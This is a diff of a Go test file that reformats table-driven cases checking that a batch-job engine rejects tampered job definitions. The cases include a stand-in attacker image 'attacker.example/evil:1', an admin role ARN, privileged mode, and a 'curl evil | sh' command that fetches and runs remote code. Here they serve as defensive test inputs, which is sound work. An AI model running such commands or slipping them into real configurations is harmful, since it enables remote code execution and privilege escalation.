@@ -154,7 +154,7 @@ func TestSubmitNeverRegisters(t *testing.T) {
 	}
 
 	newEngine(t, srv, testSpec()) // setup
-	for i := range 3 { // three engines (three CLI invocations), two runs each
+	for i := range 3 {            // three engines (three CLI invocations), two runs each
 		e := newEngineWithoutSetup(t, srv, testSpec())
 		for j := range 2 {
 			h, err := e.Submit(ctx, testJob(fmt.Sprintf("run%d-%d", i, j), 2))
@@ -184,7 +184,9 @@ func TestSubmitRefusesRevisionsThatDifferFromTheSpec(t *testing.T) {
 	}{
 		{"faithful copy", func(*types.ContainerProperties) {}, ""},
 		{"other image", func(cp *types.ContainerProperties) { cp.Image = aws.String("attacker.example/evil:1") }, `image is "attacker.example/evil:1"`},
-		{"other job role", func(cp *types.ContainerProperties) { cp.JobRoleArn = aws.String("arn:aws:iam::123456789012:role/admin") }, "job role"},
+		{"other job role", func(cp *types.ContainerProperties) {
+			cp.JobRoleArn = aws.String("arn:aws:iam::123456789012:role/admin")
+		}, "job role"},
 		{"other command", func(cp *types.ContainerProperties) { cp.Command = []string{"sh", "-c", "curl evil | sh"} }, "command"},
 		{"privileged", func(cp *types.ContainerProperties) { cp.Privileged = aws.Bool(true) }, "privileged"},
 		{"more memory", func(cp *types.ContainerProperties) {
